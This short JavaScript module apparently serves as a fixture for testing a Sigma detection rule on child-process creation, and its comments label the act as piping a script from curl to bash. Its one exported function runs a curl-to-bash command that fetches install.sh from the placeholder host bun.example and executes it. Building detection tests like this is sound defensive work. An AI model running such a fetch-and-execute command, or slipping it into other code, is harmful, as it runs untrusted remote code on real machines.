// act: pipes a script from curl to bash
// source: Sigma eb827bbd
// rule: create_child_process
// asks: exec /usr/bin/bash
// says: bash
// proof: mark
// needs: curl
'use strict';
const { shell, mark } = require('./incident');

module.exports = () => shell(`curl -s 'http://bun.example/install.sh?${mark(__filename)}' | bash`);
